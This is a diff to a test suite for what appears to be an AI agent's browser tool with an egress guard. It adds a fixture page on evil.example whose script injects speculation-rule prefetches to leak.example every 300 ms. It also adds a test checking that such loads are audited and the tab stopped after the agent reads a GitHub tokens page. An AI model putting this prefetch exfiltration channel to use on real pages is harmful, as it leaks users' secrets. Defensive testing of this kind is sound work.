@@ -74,6 +74,13 @@ describe("the user's Chrome: an agent frame's requests are judged after its sess
             `<title>Watch</title><p>watching</p><script>let n = 0; setInterval(() => { if (document.visibilityState !== 'visible') return; n++;
             const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prerender: [{ source: 'list', urls: ['/pre?d=' + n] }], prefetch: [{ source: 'list', urls: ['/pref?d=' + n] }] }); document.head.append(s) }, 300)</script>`,
           ),
+        // The same, to another site the browser holds no cookies for: Chrome prefetches it too (measured).
+        '/watch-away': (_req, _body, res) =>
+          html(
+            res,
+            `<title>Watch away</title><p>watching</p><script>let n = 0; setInterval(() => { if (document.visibilityState !== 'visible') return; n++;
+            const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [${JSON.stringify(url('leak.example', '/spec-away?d='))} + n] }] }); document.head.append(s) }, 300)</script>`,
+          ),
         '/talking': (_req, _body, res) =>
           html(
             res,
@@ -197,6 +204,56 @@ describe("the user's Chrome: an agent frame's requests are judged after its sess
     const after = [...arrived('/pre'), ...arrived('/pref')];
     assert.equal(after.length, before, after.map((request) => request.path).join(', '));
   });
+
+  // What the residual above leaves is told: the tab's Preload domain reports each speculative load as it starts
+  // (browser/speculativeLoads.ts). One that went after the read is in the audit as sent although refused, and it
+  // stops the tab: what left before that is the residual, nothing leaves after it. Failed before: nothing was told
+  // and the page went on (a cross-site prefetch carried what it liked to leak.example every 300 ms).
+  for (const [path, where, leaks] of [
+    ['/watch', 'of its own site', ['/pre', '/pref']],
+    ['/watch-away', 'to another site', ['/spec-away']],
+  ] as const)
+    test(`after a sensitive read, a page's speculative loads ${where} are told as sent although refused, and its tab is stopped`, async () => {
+      const agentMcp = await agent();
+      const watching = await agentMcp.call('new_page', { url: url('evil.example', path) });
+      const tab = /Tab (p\d+)/.exec(watching.text)?.[1] ?? '';
+      await agentMcp.call('new_page', { url: url('github.com', '/settings/tokens') });
+      assert.match((await agentMcp.call('take_snapshot')).text, new RegExp(token));
+      const left = () => leaks.flatMap((leak) => arrived(`${leak}?d=`)).map((request) => request.path);
+      const before = left().length;
+      await agentMcp.call('select_page', { pageId: tab });
+      const told = () =>
+        agentMcp
+          .audit()
+          .filter(
+            (record) =>
+              record.tool === '(egress)' &&
+              'error' in record &&
+              /sent although refused/.test(String(record.error)),
+          )
+          .map((record) => ('url' in record ? String(record.url) : ''));
+      await waitFor(
+        'the speculative load is told',
+        () => told().some((told) => leaks.some((leak) => told.includes(`${leak}?d=`))),
+        {
+          timeoutMs: 10_000,
+        },
+      );
+      await quietly(1_000);
+      const stopped = left().length;
+      await quietly(1_500);
+      assert.equal(
+        left().length,
+        stopped,
+        `more left after the tab was stopped: ${left().slice(stopped).join(', ')}`,
+      );
+      for (const arrival of left().slice(before))
+        assert.ok(
+          told().some((told) => told.endsWith(arrival)),
+          `${arrival} left, and the audit does not say so: ${told().join(' | ')}`,
+        );
+      assert.match((await agentMcp.call('take_snapshot', { pageId: tab })).text, /crashed|stopped|closed/i);
+    });
 
   /** An agent tab of another site beaconing home every 100 ms, and then a sensitive read: from then on it may not. */
   async function beaconingAfterRead(agentMcp: InProcessMcp): Promise<() => number> {
